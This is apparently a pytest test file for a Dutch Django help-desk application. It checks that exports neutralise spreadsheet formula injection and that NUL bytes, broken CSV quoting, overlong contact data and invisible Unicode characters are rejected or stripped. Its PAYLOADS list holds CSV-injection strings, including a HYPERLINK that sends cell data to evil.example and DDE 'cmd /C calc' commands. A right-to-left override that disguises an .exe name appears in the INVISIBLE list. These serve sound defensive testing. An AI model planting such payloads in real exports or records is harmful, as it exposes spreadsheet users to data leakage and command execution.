"""Hostile and malformed input (review M3, L1, L2, L3, L10, L11), each through the real stack.

M3   formulas in exports: payloads of several shapes enter through the API, the desk form, the CSV import and a
     coordinator's location and partner names; every export file (CSV and XLSX) must show them as text.
L1   malformed desk and statistics input answers 4xx, never 500.
L2   a CSV import whose quotes do not pair up is refused with the line, nothing stored.
L3   a NUL character anywhere (path, query, form, JSON, headers, uploads) is a 400 before it reaches the database.
     Run this file with DATABASE_URL=postgres://… too: only PostgreSQL turned NUL into a 500.
L10  contact data longer than we keep is refused, never cut off.
L11  bidi overrides and zero-width characters do not reach a stored note.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import zipfile
from typing import Any
from urllib.parse import urlencode
from zoneinfo import ZoneInfo

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from balie.core.spreadsheet import is_risky, restore_cell, safe_cell
from balie.desk.exchange.csvformat import HEADER
from balie.desk.models import ImportJob, Question, Visit
from balie.desk.services import visit_register
from balie.network.models import Location

pytestmark = pytest.mark.django_db

AMS = ZoneInfo("Europe/Amsterdam")
IMMEDIATE = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
LAST_YEAR = dt.date.today().year - 1

# Formula payloads in the shapes spreadsheets run: each trigger character, whitespace before it, the review's
# HYPERLINK, a DDE command, and the two that only bite in a Dutch Excel (";" separator, a line break in a note).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =HYPERLINK(\"http://evil.example\")",
    "\u00a0=1+1",
    "'=1+1",
    "uitleg gegeven;=HYPERLINK(\"http://evil.example\")",
    "regel een\n=HYPERLINK(\"http://evil.example\")\nregel drie",
]
# A cell start: the beginning, or (Dutch Excel, which ignores the CSV quoting) just after ";" or a line break.
RISKY_CSV = re.compile(r"(?:^|(?<=[;\n\r]))[ \u00a0]*[=+\-@\t\r]")


@pytest.fixture(autouse=True)
def _fast(settings):
    settings.BALIE_PII_NAMES = False  # the name model takes seconds to load; notes here hold no names
    settings.TASKS = IMMEDIATE


def csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_csv_safe(data: bytes, where: str) -> list[str]:
    cells = csv_cells(data)
    bad = [c for c in cells if RISKY_CSV.search(c)]
    assert not bad, f"{where}: cells a spreadsheet would run as a formula: {bad[:5]}"
    return cells


def assert_xlsx_safe(data: bytes, where: str) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert not formulas, f"{where}: formula cells {formulas[:5]}"
    bad = [c.value for c in cells if isinstance(c.value, str) and is_risky(c.value) and not c.value.startswith("'")]
    assert not bad, f"{where}: text cells that start like a formula: {bad[:5]}"
    return [c.value for c in cells]


# --- M3: the neutraliser itself --------------------------------------------------------------------------------------

@settings(max_examples=3000, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r\n; '\u00a0\"ab,x")), max_size=12) | st.text(max_size=20))
def test_safe_cell_leaves_no_formula_start_and_restore_cell_gives_the_text_back(text):
    written = safe_cell(text)
    assert not RISKY_CSV.search(written)
    assert restore_cell(written) == text  # our own import gets exactly the stored text back
    # Only text with a formula start (looking through spaces and apostrophes) changes at all.
    assert (written != text) == bool(re.search(r"(?:^|(?<=[;\n\r]))[ \u00a0']*[=+\-@\t\r]", text))


def test_safe_cell_changes_only_what_needs_it():
    assert [safe_cell(v) for v in ("BIB-RDAM", "2024-03-12", "Uitleg, geen formule", 12, None, "")] == [
        "BIB-RDAM", "2024-03-12", "Uitleg, geen formule", 12, None, ""]
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("a;=1") == "a;'=1" and safe_cell("a\n-b") == "a\n'-b"


# --- M3: registrations (notes) through three input paths, out through every registration export ----------------------

def _api_register(client: Client, note: str) -> int:
    response = client.post("/api/v1/registraties", {"locatie": "RDAM-CENTRAAL", "instantie": "DIGID", "onderwerp": "INLOGGEN",
                                                    "uitkomst": "OPGELOST", "notitie": note}, content_type="application/json")
    return response.status_code


def _desk_register(client: Client, note: str, n: int) -> int:
    response = client.post("/balie/", {"submission_key": f"m3-{n}", "q-0-instantie": "DIGID", "q-0-onderwerp": "INLOGGEN",
                                       "q-0-uitkomst": "OPGELOST", "q-0-notitie": note})
    return response.status_code


def _csv_file(notes: list[str]) -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(HEADER)
    for n, note in enumerate(notes, start=1):
        row = {name: "" for name in HEADER}
        row.update(organisatie="BIB-RDAM", locatie="RDAM-CENTRAAL", bezoek=str(n), datum="2024-03-12", tijd="10:00", kanaal="INLOOP",
                   instantie="DIGID", onderwerp="INLOGGEN", uitkomst="OPGELOST", notitie=note)
        writer.writerow([row[name] for name in HEADER])
    return out.getvalue().encode("utf-8")


def _upload(client: Client, data: bytes, name: str = "registraties.csv") -> Any:
    return client.post("/balie/importeren/", {"bestand": SimpleUploadedFile(name, data, content_type="text/csv")})


def test_formula_notes_from_api_desk_and_import_stay_text_in_every_registration_export(client_for, network, tmp_path):
    staff, coordinator = client_for("medewerker"), client_for("coordinator")
    for n, note in enumerate(PAYLOADS):
        assert _api_register(staff, note) == 201
        assert _desk_register(staff, note, n) == 302
    assert _upload(coordinator, _csv_file(PAYLOADS)).status_code == 302
    stored = set(Question.objects.values_list("note", flat=True))
    assert Question.objects.count() == 3 * len(PAYLOADS)
    assert '=HYPERLINK("http://evil.example/?x="&A1,"klik")' in stored  # the text itself is kept, only the export changes

    download = b"".join(coordinator.get("/balie/exporteren/").streaming_content)
    cells = assert_csv_safe(download, "/balie/exporteren/")
    # Read back through the import's own rule, every stored note is there unchanged.
    assert stored <= {restore_cell(c) for c in cells}

    call_command("export_registrations", "--output", str(tmp_path / "a.csv"), stderr=io.StringIO())
    assert_csv_safe((tmp_path / "a.csv").read_bytes(), "export_registrations csv")
    call_command("export_registrations", "--format", "xlsx", "--output", str(tmp_path / "a.xlsx"), stderr=io.StringIO())
    values = assert_xlsx_safe((tmp_path / "a.xlsx").read_bytes(), "export_registrations xlsx")
    assert "'" + '=HYPERLINK("http://evil.example/?x="&A1,"klik")' in values


def test_formula_notes_survive_export_import_export_byte_identical(client_for, network, tmp_path):
    staff = client_for("medewerker")
    for n, note in enumerate(PAYLOADS):
        assert _desk_register(staff, note, n) == 302
    first = b"".join(client_for("coordinator").get("/balie/exporteren/").streaming_content)
    notes = sorted(Question.objects.values_list("note", flat=True))
    Visit.objects.all().delete()
    assert _upload(client_for("coordinator"), first).status_code == 302
    assert sorted(Question.objects.values_list("note", flat=True)) == notes  # the apostrophes came off again
    assert b"".join(client_for("coordinator").get("/balie/exporteren/").streaming_content) == first


# --- M3: names typed by a coordinator, out through insight, the accountability report, open data and HSDS ------------

def _rename_location(client: Client, code: str, name: str) -> None:
    loc = Location.objects.select_related("gemeente").get(code=code)
    response = client.post(f"/organisatie/locaties/{code}/", {
        "code": loc.code, "naam": name, "kind": loc.kind, "address": loc.address, "postcode": loc.postcode, "plaats": loc.plaats,
        "active": "on", "gemeente_code": loc.gemeente.cbs_code})
    assert response.status_code == 302, response.content.decode()[:500]
    assert Location.objects.get(code=code).naam == name


@pytest.mark.parametrize("payload", [PAYLOADS[0], PAYLOADS[2], PAYLOADS[4], PAYLOADS[10]])
def test_a_location_named_like_a_formula_stays_text_in_insight_and_report_exports(client_for, users, network, payload):
    day = dt.date(LAST_YEAR, 3, 12)
    for i in range(12):
        visit_register(user=users["medewerker"], location=Location.objects.get(code="RDAM-CENTRAAL"),
                       questions=[{"instantie": "DIGID", "onderwerp": "INLOGGEN", "uitkomst": "OPGELOST"}],
                       started_at=dt.datetime.combine(day, dt.time(10, i), AMS))
    _rename_location(client_for("coordinator"), "RDAM-CENTRAAL", payload)
    for username in ("gemeente", "coordinator", "landelijk"):
        client = client_for(username)
        html = client.get("/inzicht/", {"periode": LAST_YEAR}).content.decode()
        keys = sorted(set(re.findall(r"/inzicht/export/([a-z]+)\.csv", html)))
        assert "locaties" in keys or username == "landelijk"
        seen = False
        for key in keys:
            csv_response = client.get(f"/inzicht/export/{key}.csv", {"periode": LAST_YEAR})
            assert csv_response.status_code == 200
            cells = assert_csv_safe(csv_response.content, f"{username} {key}.csv")
            xlsx_response = client.get(f"/inzicht/export/{key}.xlsx", {"periode": LAST_YEAR})
            assert xlsx_response.status_code == 200
            assert_xlsx_safe(xlsx_response.content, f"{username} {key}.xlsx")
            seen |= safe_cell(payload) in cells
        assert seen or username == "landelijk", "the location name is in the export, neutralised"
    client = client_for("gemeente")
    for fmt, check in (("csv", assert_csv_safe), ("xlsx", assert_xlsx_safe)):
        response = client.get(f"/inzicht/verantwoording/GM0599/{LAST_YEAR}.{fmt}")
        assert response.status_code == 200
        check(response.content, f"verantwoording.{fmt}")
    assert_csv_safe(Client().get("/inzicht/open-data.csv").content, "open-data.csv")


def test_a_partner_named_like_a_formula_stays_text_in_the_hsds_export_and_comes_back_on_import(client_for, network):
    from balie.demo.partners import build_social_map
    from balie.partners.models import Partner

    build_social_map()
    coordinator = client_for("coordinator")
    partner = Partner.objects.filter(organisation__code="BIB-RDAM", receives_referrals=True).order_by("name").first()
    response = coordinator.post(f"/sociale-kaart/{partner.uuid}/bewerken/", {
        "name": PAYLOADS[0], "description": PAYLOADS[10], "email": partner.email, "phone": partner.phone, "website": partner.website,
        "last_verified": "", "active": "on"})
    assert response.status_code == 302, response.content.decode()[:500]
    export = coordinator.get("/sociale-kaart/exporteren/")
    archive = zipfile.ZipFile(io.BytesIO(export.content))
    for name in archive.namelist():
        assert_csv_safe(archive.read(name), f"hsds {name}")
    # Into another library: the names arrive as typed, without the apostrophe.
    imported = client_for("coordinator-gouda").post("/sociale-kaart/importeren/", {
        "bestanden": SimpleUploadedFile("kaart.zip", export.content, content_type="application/zip")})
    assert imported.status_code == 302, imported.content.decode()[:800]
    copy = Partner.objects.get(organisation__code="BIB-GOUDA", name=PAYLOADS[0])
    assert copy.description == PAYLOADS[10]


# --- L1: malformed desk and statistics input --------------------------------------------------------------------------

DESK_BAD = [
    ({"chip": "DIGID:INLOGGEN", "chip_target": "abc"}, 400),
    ({"chip": "DIGID:INLOGGEN", "chip_target": "-7"}, 400),
    ({"chip": "DIGID:INLOGGEN", "chip_target": "²"}, 400),
    ({"question_count": "2", "remove_question": "abc"}, 400),
    ({"question_count": "2", "remove_question": "7"}, 400),
    ({"question_count": "2", "remove_question": "-1"}, 400),
    ({"question_count": "2", "remove_question": "99999999999999999999"}, 400),
    ({"datum": "2026-11-30", "tijd": "12:00+05:00"}, 422),
    ({"datum": "2026-11-30", "tijd": "10:00Z"}, 422),
    ({"datum": "2026-11-30", "tijd": "10:00-01:30"}, 422),
]


@pytest.mark.parametrize(("fields", "status"), DESK_BAD)
def test_malformed_desk_form_input_is_a_4xx_with_a_dutch_message_and_nothing_saved(client_for, network, fields, status):
    client = client_for("medewerker")
    client.raise_request_exception = False
    data = {"submission_key": "k", "q-0-instantie": "DIGID", "q-0-onderwerp": "INLOGGEN", "q-0-uitkomst": "OPGELOST", **fields}
    response = client.post("/balie/", data)
    assert response.status_code == status
    html = response.content.decode()
    assert "Deze vraag staat niet in het formulier" in html or "is geen geldige tijd" in html
    assert Visit.objects.count() == 0


@pytest.mark.parametrize("tijd", ["10:00Z", "12:00+05:00"])
def test_a_correction_with_a_time_zone_is_refused(client_for, users, network, tijd):
    question = visit_register(user=users["medewerker"], location=Location.objects.get(code="RDAM-CENTRAAL"),
                              questions=[{"instantie": "DIGID", "onderwerp": "INLOGGEN", "uitkomst": "OPGELOST"}])[0].questions.get()
    before = question.started_at
    client = client_for("medewerker")
    client.raise_request_exception = False
    response = client.post(f"/balie/vraag/{question.uuid}/", {"instantie": "DIGID", "onderwerp": "INLOGGEN", "uitkomst": "OPGELOST",
                                                             "datum": dt.date.today().isoformat(), "tijd": tijd})
    assert response.status_code == 422 and "is geen geldige tijd" in response.content.decode()
    question.refresh_from_db()
    assert question.started_at == before


@pytest.mark.parametrize("query", ["tot=0001-01-02", "van=0001-01-01", "tot=9999-12-31", "van=0001-01-01&tot=0001-01-02"])
@pytest.mark.parametrize("path", ["/wachtrij/statistiek/", "/enquete/"])
def test_far_away_dates_in_statistics_filters_are_explained_not_a_500(client_for, network, path, query):
    client = client_for("coordinator")
    client.raise_request_exception = False
    response = client.get(f"{path}?{query}")
    assert response.status_code == 200
    assert "ligt buiten 2000 tot en met 2099" in response.content.decode()


# --- L2: the CSV import and its quotes ---------------------------------------------------------------------------------

def _rows(n: int, first_note: str = "", *, later_note: str = "") -> bytes:
    lines = [",".join(HEADER)]
    for i in range(1, n + 1):
        note = first_note if i == 1 else (later_note if i == n else f"notitie {i}")
        lines.append(f"BIB-RDAM,RDAM-CENTRAAL,{i},2024-03-12,10:00,INLOOP,,DIGID,INLOGGEN,,,,,OPGELOST,,,,{note}")
    return ("\r\n".join(lines) + "\r\n").encode()


UNBALANCED = [
    # The review's case: a note opens a quote and never closes it; the rest of the file would become one note.
    (_rows(11, '"open quote, nooit dicht'), 2, "nergens wordt afgesloten"),
    # Closed by a stray quote ten rows later, right at the end of a line: the quotes pair up, the rows do not.
    (_rows(11, '"open quote', later_note='eind"'), 2, "een hele registratie"),
    # A quoted text followed by more text in the same column.
    (_rows(3, '"half" geciteerd'), 2, "na een afsluitend aanhalingsteken"),
    # Closed by the quote of a later, properly quoted note: text follows the closing quote.
    (_rows(5, '"open', later_note='"nette notitie"'), 2, "aanhalingsteken"),
]


@pytest.mark.parametrize(("data", "line", "words"), UNBALANCED)
def test_an_import_with_unbalanced_quotes_is_refused_naming_the_line_and_stores_nothing(client_for, network, tmp_path, data, line, words):
    response = _upload(client_for("coordinator"), data)
    assert response.status_code == 422
    html = response.content.decode()
    assert words in html.lower() and f'<td class="num">{line}</td>' in html
    assert Question.objects.count() == 0 and not ImportJob.objects.exists()
    # The command says the same, and also stores nothing.
    path = tmp_path / "import.csv"
    path.write_bytes(data)
    err = io.StringIO()
    with pytest.raises(Exception, match="niets geïmporteerd"):
        call_command("import_registrations", str(path), stderr=err, stdout=io.StringIO())
    assert f"regel {line}" in err.getvalue() and Question.objects.count() == 0


def test_a_large_import_with_an_unbalanced_quote_fails_cleanly_in_the_worker(client_for, network, monkeypatch):
    from balie.desk.exchange import views as import_views

    monkeypatch.setattr(import_views, "SYNC_CHECK_MAX_LINES", 5)  # past the quick check: the worker reads the file
    response = _upload(client_for("coordinator"), _rows(11, '"open quote, nooit dicht'))
    job = ImportJob.objects.get()
    assert response.status_code == 302
    assert (job.status, job.created_count, job.content) == ("afgekeurd", 0, "")
    assert [(e["regel"], "nergens wordt afgesloten" in e["reden"]) for e in job.errors] == [(2, True)]
    assert Question.objects.count() == 0


def test_quoted_notes_with_commas_quotes_and_line_breaks_still_import(client_for, network):
    good = _rows(3, '"Brief van ""Woonstad"", uitgelegd\r\nkomt terug"')
    assert _upload(client_for("coordinator"), good).status_code == 302
    assert Question.objects.filter(note='Brief van "Woonstad", uitgelegd\r\nkomt terug').count() == 1
    assert Question.objects.count() == 3


# --- L3: NUL ------------------------------------------------------------------------------------------------------------

def test_nul_in_a_desk_note_url_query_or_form_is_400_and_nothing_is_stored(client_for, network):
    client = client_for("medewerker")
    client.raise_request_exception = False
    form = urlencode({"submission_key": "k", "q-0-instantie": "DIGID", "q-0-onderwerp": "INLOGGEN", "q-0-uitkomst": "OPGELOST",
                      "q-0-notitie": "a\x00b"})
    response = client.post("/balie/", form, content_type="application/x-www-form-urlencoded")
    assert response.status_code == 400 and "NUL-teken" in response.content.decode()
    # Multipart (what a crafted client may send instead): refused when the view reads the form.
    response = client.post("/balie/", {"submission_key": "k\x00", "q-0-instantie": "DIGID", "q-0-onderwerp": "INLOGGEN",
                                       "q-0-uitkomst": "OPGELOST"})
    assert response.status_code == 400
    assert Visit.objects.count() == 0


@pytest.mark.parametrize("body", [
    {"locatie": "RDAM-CENTRAAL\x00", "instantie": "DIGID", "onderwerp": "INLOGGEN", "uitkomst": "OPGELOST"},
    {"locatie": "RDAM-CENTRAAL", "instantie": "DIGID", "onderwerp": "INLOGGEN", "uitkomst": "OPGELOST", "notitie": "x\x00y"},
    {"locatie": "RDAM-CENTRAAL", "vragen": [{"instantie": "DIGID\x00", "onderwerp": "INLOGGEN", "uitkomst": "OPGELOST"}]},
    {"locatie": "RDAM-CENTRAAL", "instantie": "DIGID", "onderwerp": "INLOGGEN", "uitkomst": "OPGELOST", "extra\x00": 1},
])
def test_nul_in_an_api_body_is_a_400_problem(client_for, network, body):
    client = client_for("medewerker")
    client.raise_request_exception = False
    response = client.post("/api/v1/registraties", json.dumps(body), content_type="application/json")
    assert response.status_code == 400 and response["Content-Type"] == "application/problem+json"
    assert "NUL" in response.json()["detail"]
    assert Visit.objects.count() == 0


def test_nul_in_an_api_header_filter_or_idempotency_key_is_a_400(client_for, network):
    client = client_for("medewerker")
    client.raise_request_exception = False
    assert client.get("/api/v1/registraties?locatie=RDAM%00").status_code == 400
    assert client.get("/api/v1/registraties?van=2024-01-01%00").status_code == 400
    body = {"locatie": "RDAM-CENTRAAL", "instantie": "DIGID", "onderwerp": "INLOGGEN", "uitkomst": "OPGELOST"}
    response = client.post("/api/v1/registraties", body, content_type="application/json", HTTP_IDEMPOTENCY_KEY="sleutel\x00")
    assert response.status_code == 400 and Visit.objects.count() == 0


def test_nul_in_uploaded_files_is_refused_with_the_line(client_for, network):
    data = _rows(3).replace(b"notitie 2", b"noti\x00tie 2")
    response = _upload(client_for("coordinator"), data)
    assert response.status_code == 422
    html = response.content.decode()
    assert "NUL-teken" in html and '<td class="num">3</td><td>notitie</td>' in html
    assert not ImportJob.objects.exists() and Question.objects.count() == 0
    # A NUL in the file name of an upload: Django drops non-printable characters from it, so the stored name is clean.
    response = _upload(client_for("coordinator"), _rows(2), name="regi\x00straties.csv")
    assert response.status_code == 302 and ImportJob.objects.get().file_name == "registraties.csv"


def test_nul_in_an_hsds_package_is_refused_with_file_line_and_column(client_for, network):
    from balie.partners import hsds

    files = {name: ",".join(columns) + "\n" for name, columns in hsds.FILES.items()}
    files["organizations.csv"] += "d9d5e0f5-d3ce-4f73-9a2f-4dd0ecc6c610,Stich\x00ting,Een stichting" + "," * 10 + "\n"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    client = client_for("coordinator")
    client.raise_request_exception = False
    response = client.post("/sociale-kaart/importeren/", {"bestanden": SimpleUploadedFile("k.zip", buffer.getvalue())})
    html = response.content.decode()
    assert response.status_code == 422 and "onzichtbaar teken (NUL)" in html and "<td>2</td><td>name</td>" in html


# --- L10: contact data is refused when too long, never cut off --------------------------------------------------------

@pytest.fixture
def social(network, settings):
    from balie.demo.courses import build_courses
    from balie.demo.partners import build_social_map

    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    partners = build_social_map()
    build_courses()
    return partners


def _question(users):
    visit, _ = visit_register(user=users["medewerker"], location=Location.objects.get(code="RDAM-CENTRAAL"),
                              questions=[{"instantie": "CJIB", "onderwerp": "BETALEN", "uitkomst": "DOORVERWEZEN"}])
    return visit.questions.get()


LONG_CONTACT = [
    ({"naam": "J" * 101, "telefoon": "06 41234567"}, "contact.naam", "101 tekens"),
    ({"naam": "Jantine " + "Voorbeeldig" * 10_000, "telefoon": "06 41234567"}, "contact.naam", "het maximum is 100"),
    ({"naam": "Jantine", "email": "jantine@" + "a" * 150 + ".nl"}, "contact.email", "het maximum is 150"),
    ({"naam": "Jantine", "telefoon": "06 4123 4567" + " " * 30 + "0"}, "contact.telefoon", "het maximum is 30"),
    ({"naam": "Jantine", "telefoon": "06 41234567", "voorkeur": "ochtend " * 20}, "contact.voorkeur", "het maximum is 100"),
]


@pytest.mark.parametrize(("contact", "field", "words"), LONG_CONTACT)
def test_too_long_contact_data_is_refused_by_the_api_and_the_form(client_for, users, social, contact, field, words):
    from balie.referrals.models import Referral

    question = _question(users)
    service = social["SchuldHulpMaatje Rotterdam"].services.first()
    client = client_for("medewerker")
    response = client.post("/api/v1/verwijzingen", {"registratie": str(question.uuid), "dienst": str(service.uuid), "soort": "per_email",
                                                    "toestemming": True, "contact": contact}, content_type="application/json")
    assert response.status_code == 400, response.content[:300]
    problems = {p["name"]: p["reason"] for p in response.json()["invalid_params"]}
    assert words in problems[field]
    form = client.post(f"/verwijzingen/nieuw/{question.uuid}/", {"dienst": str(service.uuid), "soort": "samen_gebeld",
                                                                  "toestemming": "ja", **contact})
    assert form.status_code == 422 and words in form.content.decode()
    assert Referral.objects.count() == 0


def test_contact_data_at_the_limit_is_kept_whole(users, social):
    from balie.referrals import services

    question = _question(users)
    partner = social["SchuldHulpMaatje Rotterdam"]
    name, email = "N" * 100, "a" * 140 + "@ex.nl"
    referral, _ = services.referral_create(user=users["medewerker"], question=question, partner=partner, service=partner.services.first(),
                                           kind="per_email", consent=True, contact={"naam": name, "email": email})
    contact = services.contact_for(referral, user=users["medewerker"], via="test")
    assert (contact["naam"], contact["email"]) == (name, email)


def test_a_too_long_course_enrolment_name_is_refused(client_for, users, social):
    from balie.courses.models import Course, Enrolment

    course = Course.objects.get(title__startswith="Digisterker: werken")
    question = _question(users)
    response = client_for("medewerker").post(f"/cursussen/{course.uuid}/vraag/{question.uuid}/", {
        "action": "inschrijven", "toestemming": "ja", "naam": "P" * 5000, "telefoon": "06 41234567", "submission_key": "a"})
    assert response.status_code in (200, 422) and "het maximum is 100" in response.content.decode()
    assert Enrolment.objects.count() == 0


# --- L11: invisible characters do not reach a stored note -------------------------------------------------------------

INVISIBLE = [
    ("\u202egnp.exe\u200b uitleg", "gnp.exe uitleg"),               # right-to-left override: shows as "exe.png"
    ("Kl\u200bant\u200c ge\u200dholpen\u2060", "Klant geholpen"),    # zero-width space, non-joiner, joiner, word joiner
    ("\ufeffBOM ervoor", "BOM ervoor"),
    ("\u2066isolaat\u2069 en \u200fmarkering\u200e", "isolaat en markering"),
    ("regel een\u2028regel twee", "regel een\nregel twee"),
    ("bel\u00ad terug\x07\x1b", "bel terug"),                        # soft hyphen, bell, escape
]


@pytest.mark.parametrize(("note", "stored"), INVISIBLE)
def test_invisible_characters_are_taken_out_of_notes_on_every_write_path(client_for, network, note, stored):
    staff = client_for("medewerker")
    assert _desk_register(staff, note, 1) == 302
    assert _api_register(staff, note) == 201
    assert _upload(client_for("coordinator"), _csv_file([note])).status_code == 302
    notes = list(Question.objects.values_list("note", flat=True))
    assert notes == [stored] * 3


# --- M3: a guard for writers added later -------------------------------------------------------------------------------

def test_every_spreadsheet_writer_in_balie_goes_through_core_spreadsheet():
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent / "balie"
    # csvformat.writer only configures csv.writer for the exchange format; exporting.py passes every row through safe_row.
    exempt = {"desk/exchange/csvformat.py", "core/spreadsheet.py"}
    writers = []
    for path in root.rglob("*.py"):
        source = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(|Workbook\(|csvformat\.writer\(", source):
            writers.append(path.relative_to(root).as_posix())
    missing = [w for w in writers if w not in exempt and "balie.core.spreadsheet" not in (root / w).read_text(encoding="utf-8")]
    assert len(writers) >= 5 and not missing, f"CSV/XLSX writers without core.spreadsheet: {missing}"


def test_control_characters_in_old_notes_and_in_names_do_not_break_an_xlsx_export(client_for, users, network, tmp_path):
    # Notes are cleaned on every write now (L11), but older rows may still hold a bell or an escape character; XML
    # cannot, and openpyxl refused the whole workbook for one of them.
    question = visit_register(user=users["medewerker"], location=Location.objects.get(code="RDAM-CENTRAAL"),
                              questions=[{"instantie": "DIGID", "onderwerp": "INLOGGEN", "uitkomst": "OPGELOST"}],
                              started_at=dt.datetime.combine(dt.date(LAST_YEAR, 3, 12), dt.time(10), AMS))[0].questions.get()
    Question.objects.filter(pk=question.pk).update(note="=1+1\x07 oud\x1b")
    call_command("export_registrations", "--format", "xlsx", "--output", str(tmp_path / "a.xlsx"), stderr=io.StringIO())
    assert "'=1+1 oud" in assert_xlsx_safe((tmp_path / "a.xlsx").read_bytes(), "old note")
    _rename_location(client_for("coordinator"), "RDAM-CENTRAAL", "Centrum\x07 =1+1")
    response = client_for("gemeente").get("/inzicht/export/locaties.xlsx", {"periode": LAST_YEAR})
    assert response.status_code == 200 and "Centrum =1+1" in assert_xlsx_safe(response.content, "locaties.xlsx")
